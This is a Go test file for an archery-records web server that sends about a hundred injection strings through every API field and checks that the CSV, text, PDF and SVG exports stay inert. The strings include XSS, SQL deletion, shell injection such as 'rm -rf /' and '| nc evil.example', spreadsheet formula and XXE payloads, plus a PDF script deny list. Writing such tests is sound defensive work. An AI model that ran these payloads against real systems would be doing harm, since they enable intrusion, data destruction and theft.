package server_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"flag"
	"fmt"
	"io"
	"maps"
	"os"
	"os/exec"
	"strings"
	"testing"
	"unicode"

	"tautline/internal/figure"
)

// hostileTexts are what careless programs run, follow or are steered by: HTML
// and script, SQL, shell, templates, formulas of spreadsheets, escape sequences
// of terminals, line breaks of headers and logs, paths, and text that turns
// round. All of them are made up here, after common kinds (OWASP's cheat sheets
// name the kinds: cross-site scripting, CSV injection, log injection).
func hostileTexts() []string {
	kinds := []string{
		"<script>alert(%d)</script>", "\"><img src=x onerror=alert(%d)>", "'><svg onload=alert(%d)>", "javascript:alert(%d)", "</title><script>alert(%d)</script>",
		"<a href='data:text/html,%d'>x</a>", "{{%d*7}}", "${%d*7}", "%%{%d}", "<!--#exec cmd=\"id %d\"-->", "]]><x>%d</x>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd%d'>]>&e;",
		"'; DROP TABLE bows; -- %d", "1 OR %d=%[1]d", "\\'); DELETE FROM people; -- %d", "$(touch /tmp/x%d)", "`id`%d", "; rm -rf / #%d", "| nc evil.example %d", "&& true %d",
		"=1+%d", "=HYPERLINK(\"http://evil.example/%d\")", "+1-%d", "-1+cmd|' /C calc'!A%d", "@SUM(A%d)", "\t=1+%d", "＝1+%d", "＋1%d", "=cmd|'/C calc'!A%d", "-%d-1",
		"\x1b[31mred %d", "\x1b]0;title %d\x07", "\x1b[2J%d", "\u009b31m%d", "\x1bP%d\x1b\\", "bell\x07%d", "back\b\b%d", "\r over %d", "\x7f%d", "nul\x00%d",
		"line\nSet-Cookie: a=%d", "line\r\n\r\n<html>%d", "level=ERROR %d\nlevel=INFO", "../../../etc/passwd%d", "..\\..\\windows\\%d", "/dev/null%d", "C:\\CON%d", "file://%d", "\\\\evil.example\\%d", "%%2e%%2e%%2f%d",
	}
	var all []string
	for i, k := range kinds {
		all = append(all, fmt.Sprintf(k, i), fmt.Sprintf("A "+k+" \u202e\ufeff", 100+i))
	}
	return all
}

var everyField = flag.Bool("every-field", os.Getenv("TAUTLINE_LONG") != "", "every hostile text in every field instead of a fifth of them")

// hostileRecord is a record with a hostile text in it.
type hostileRecord struct {
	path string
	body obj
}

// T18: a hundred hostile texts in every field that takes one. Each is refused
// in good order or kept as it is, and what is printed of it is text: no formula
// in a table, no control character in a page for the terminal or on paper, no
// markup in a picture.
func TestHostileTexts(t *testing.T) {
	s, texts := open(t), hostileTexts()
	if len(texts) < 100 {
		t.Fatalf("only %d texts", len(texts))
	}
	// A bow of which little is known: nothing is computed of it, words are all.
	little := func(x string) obj {
		return obj{"draw": obj{"length": "28.5 in", "weight": "38 lbf"}, "limbs": obj{"bow_length": "68 in"}, "brace_height": obj{"value": "22 cm"}, "arrow": obj{"name": x}, "notes": x}
	}
	bow, setup, session := id(), id(), id()
	s.do("PUT", "/api/v1/bows/"+bow, obj{"name": "Blue 68"}).want(201)
	s.do("PUT", "/api/v1/setups/"+setup, obj{"bow": bow, "reason": "as bought", "settings": little("wood")}).want(201)
	s.do("PUT", "/api/v1/sessions/"+session, obj{"bow": bow, "place": "hall"}).want(201)
	kept := 0
	put := func(path, text string, body obj) string {
		t.Helper()
		one := id()
		r := s.do("PUT", path+one, body)
		switch {
		case r.status == 201 && !strings.Contains(string(r.body), strings.Trim(quoted(text), `"`)):
			t.Errorf("%s: %q came back otherwise: %.300s", path, text, r.body)
		case r.status == 201:
			kept++
			return one
		case r.status != 422 && r.status != 400:
			t.Errorf("%s: %q: %d", path, text, r.status)
		}
		return ""
	}
	var setups, sessions []string
	fields := func(x string) (list []hostileRecord) {
		of := func(more obj) obj {
			body := obj{"bow": bow, "setup": setup, "session": session}
			maps.Copy(body, more)
			return body
		}
		arrows := []obj{{"arrow": "1", "x_m": 0.1, "y_m": 0.1}}
		return []hostileRecord{
			{"bows/", obj{"name": x, "style": "recurve"}}, {"bows/", obj{"name": "Blue", "style": "recurve", "notes": x}},
			{"setups/", obj{"bow": bow, "parent": setup, "reason": x, "settings": little("wood")}}, {"setups/", obj{"bow": bow, "parent": setup, "reason": "named", "settings": little(x)}},
			{"sessions/", obj{"bow": bow, "place": x, "air": x, "note": x}},
			{"readings/", of(obj{"kind": "brace_height", "text": "22 cm", "note": x, "instrument": x})},
			{"readings/", of(obj{"kind": "feel", "text": x})}, {"readings/", of(obj{"kind": "brace_height", "text": x})},
			{"ends/", of(obj{"number": 1, "distance": "70 m", "face": "122", "note": x, "impacts": arrows})},
			{"ends/", of(obj{"number": 1, "distance": "70 m", "face": "122", "impacts": []obj{{"arrow": x, "x_m": 0.1, "y_m": 0.1}}})},
		}
	}
	for i, x := range texts {
		for k, f := range fields(x) {
			if !*everyField && (i+k)%5 != 0 {
				continue
			}
			one := put("/api/v1/"+f.path, x, f.body)
			switch {
			case one == "":
			case f.path == "setups/":
				setups = append(setups, one)
			case f.path == "sessions/":
				sessions = append(sessions, one)
			}
		}
	}
	if kept < len(texts) {
		t.Errorf("only %d of the texts were kept: the test tests refusals", kept)
	}
	var sheets []string
	for i := 0; i < len(setups); i += 10 {
		sheets = append(sheets, "/sheets/setup/"+setups[i])
	}
	for i := 0; i < len(sessions); i += 10 {
		sheets = append(sheets, "/sheets/session/"+sessions[i])
	}
	for i, at := range append(sheets, "/sheets/session/"+session) {
		printable(t, at, s.do("GET", at+".txt", nil).want(200).body)
		noFormula(t, at, s.do("GET", at+".csv", nil).want(200).body)
		if i%4 == 0 {
			onPaper(t, at, s.do("GET", at+".pdf", nil).want(200).body)
		}
	}
	noFormula(t, "readings.csv", s.do("GET", "/api/v1/readings.csv?bow="+bow, nil).want(200).body)
	noFormula(t, "ends.csv", s.do("GET", "/api/v1/ends.csv?bow="+bow, nil).want(200).body)
	t.Logf("%d texts, %d records kept", len(texts), kept)
}

// quoted is the text as JSON writes it.
func quoted(s string) string { return strings.TrimSpace(compactText(s)) }

func compactText(s string) string {
	var out bytes.Buffer
	enc := json.NewEncoder(&out)
	enc.SetEscapeHTML(false)
	if enc.Encode(s) != nil {
		return s
	}
	return out.String()
}

func printable(t *testing.T, what string, text []byte) {
	t.Helper()
	for _, r := range string(text) {
		if unicode.IsControl(r) && r != '\n' {
			t.Errorf("%s: control character %U", what, r)
			return
		}
	}
}

// noFormula reads a table as a spreadsheet does.
func noFormula(t *testing.T, what string, text []byte) {
	t.Helper()
	in := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(text, []byte("\ufeff"))))
	in.FieldsPerRecord = -1
	rows, err := in.ReadAll()
	if err != nil {
		t.Errorf("%s: %v", what, err)
	}
	for _, row := range rows {
		for _, cell := range row {
			number := strings.Trim(cell[min(1, len(cell)):], "0123456789.,e") == ""
			if strings.IndexAny(cell, "=+-@\t\r\n＝＋－＠") == 0 && !number {
				t.Errorf("%s: a spreadsheet runs %q", what, cell)
			}
		}
	}
}

// onPaper has another program read the page, which holds no script and no
// link of the text's own.
func onPaper(t *testing.T, what string, pdf []byte) {
	t.Helper()
	for _, word := range []string{"/JavaScript", "/Launch", "/OpenAction", "/Filespec", "/URI (javascript"} {
		if bytes.Contains(pdf, []byte(word)) {
			t.Errorf("%s: the PDF holds %s", what, word)
		}
	}
	tool, err := exec.LookPath("pdftotext")
	if err != nil {
		t.Log("pdftotext is not here: poppler-utils")
		return
	}
	cmd := exec.Command(tool, "-", "-")
	cmd.Stdin = bytes.NewReader(pdf)
	out, err := cmd.Output()
	if err != nil {
		t.Errorf("%s: pdftotext: %v", what, err)
	}
	printable(t, what, bytes.ReplaceAll(out, []byte("\f"), nil))
}

// A picture's words stay words: the SVG is whole XML and has no element but
// those that draw.
func TestHostileTextsInPictures(t *testing.T) {
	for _, x := range hostileTexts() {
		f := figure.Figure{Title: x, Finding: x, X: figure.Axis{Label: x, Unit: "m"}, Y: figure.Axis{Label: "y", Unit: "m"},
			Series: []figure.Line{{Name: x, Kind: figure.Curve, X: []figure.Number{0, 1}, Y: []figure.Number{0, 1}}}}
		var out bytes.Buffer
		if err := f.Write(&out, "svg", 160, 90); err != nil {
			t.Errorf("%q: %v", x, err)
			continue
		}
		in := xml.NewDecoder(&out)
		for {
			token, err := in.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Errorf("%q: %v", x, err)
				break
			}
			if e, ok := token.(xml.StartElement); ok {
				switch e.Name.Local {
				case "svg", "g", "path", "text", "rect", "circle", "line", "image":
				default:
					t.Errorf("%q: element %s", x, e.Name.Local)
				}
				for _, a := range e.Attr {
					if strings.HasPrefix(a.Name.Local, "on") || strings.HasPrefix(strings.ToLower(a.Value), "javascript:") {
						t.Errorf("%q: attribute %s", x, a.Name.Local)
					}
				}
			}
		}
	}
}
